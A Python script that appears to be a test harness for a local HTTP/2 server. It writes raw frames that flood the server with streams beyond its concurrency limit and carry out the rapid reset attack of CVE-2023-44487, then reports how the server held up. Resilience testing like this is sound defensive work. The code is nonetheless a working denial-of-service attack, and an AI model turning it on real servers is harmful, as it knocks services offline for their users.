"""A hostile HTTP/2 client, written with raw frames (no HTTP/2 library: it must break rules a library enforces).

Modes:
- `streams N`: after the server's SETTINGS are acknowledged, opens N streams (POST heads whose bodies never come)
  regardless of the server's SETTINGS_MAX_CONCURRENT_STREAMS, then checks with a PING that the connection lives.
- `resets N`: opens and at once resets (RST_STREAM CANCEL) N streams, the rapid reset of CVE-2023-44487.

Prints one JSON object: the server's last MAX_CONCURRENT_STREAMS, the streams it refused (RST_STREAM
REFUSED_STREAM), the GOAWAY error code if any, whether the PING was answered, and whether the server closed.

Usage: h2_abuse.py PORT API_KEY MODE N
"""
import json
import socket
import ssl
import struct
import sys
import time

port, api_key, mode, count = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
MAX_CONCURRENT_STREAMS = 0x3
CANCEL, REFUSED_STREAM = 0x8, 0x7


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """An HPACK literal header field without indexing, the name from the static table, the value raw (no Huffman)."""
    encoded = value.encode()
    assert index < 15 and len(encoded) < 127
    return bytes([index]) + bytes([len(encoded)]) + encoded


def literal_named(name, value):
    """An HPACK literal header field without indexing, with a literal name."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def post_head():
    """The header block of `POST /v1/completions` whose body is still to come."""
    # Static table: 2 :method GET, 3 :method POST, 4 :path /, 1 :authority, 7 :scheme https.
    return (b"\x83" + b"\x87" + literal(4, "/v1/completions") + literal(1, "localhost")
            + literal_named("authorization", "Bearer " + api_key)
            + literal_named("content-type", "application/json"))


context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
context.set_alpn_protocols(["h2"])
connection = context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10),
                                 server_hostname="localhost")
if connection.selected_alpn_protocol() != "h2":
    sys.exit("the server did not choose h2")

buffer = b""
result = {"max_concurrent_streams": None, "refused": [], "reset_by_server": [], "goaway": None, "ping_answered": False,
          "closed": False, "settings_frames": 0}


def read_frames(seconds, until=None):
    """Reads and handles frames for up to `seconds`, or until `until()` holds; notes a close."""
    global buffer
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not (until and until()):
        connection.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            chunk = connection.recv(65536)
        except socket.timeout:
            break
        except (ConnectionResetError, ssl.SSLError, OSError):
            result["closed"] = True
            return
        if not chunk:
            result["closed"] = True
            return
        buffer += chunk
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, flags = buffer[3], buffer[4]
            stream = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
            payload = buffer[9:9 + length]
            buffer = buffer[9 + length:]
            if kind == SETTINGS and not flags & ACK:
                result["settings_frames"] += 1
                for offset in range(0, len(payload), 6):
                    key, value = struct.unpack(">HI", payload[offset:offset + 6])
                    if key == MAX_CONCURRENT_STREAMS:
                        result["max_concurrent_streams"] = value
                connection.sendall(frame(SETTINGS, ACK, 0))
            elif kind == RST_STREAM:
                code = struct.unpack(">I", payload)[0]
                (result["refused"] if code == REFUSED_STREAM else result["reset_by_server"]).append(stream)
            elif kind == GOAWAY:
                result["goaway"] = struct.unpack(">I", payload[4:8])[0]
            elif kind == PING and flags & ACK:
                result["ping_answered"] = True


connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
# The server's SETTINGS: NIO's own first, then the listener's bounds; both acknowledged.
read_frames(5, until=lambda: result["settings_frames"] >= 2)
read_frames(0.5)  # let the server read the acknowledgements before the streams

if mode == "streams":
    connection.sendall(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * index, post_head()) for index in range(count)))
    read_frames(2)
    if not result["closed"]:
        connection.sendall(frame(PING, 0, 0, b"12345678"))
        read_frames(5, until=lambda: result["ping_answered"])
elif mode == "resets":
    stream = 1
    for _ in range(count):
        if result["closed"]:
            break
        try:
            connection.sendall(frame(HEADERS, END_HEADERS, stream, post_head())
                               + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
        except OSError:
            result["closed"] = True
            break
        stream += 2
        read_frames(0.005)
    read_frames(5, until=lambda: result["closed"])
else:
    sys.exit("unknown mode " + mode)
print(json.dumps(result))
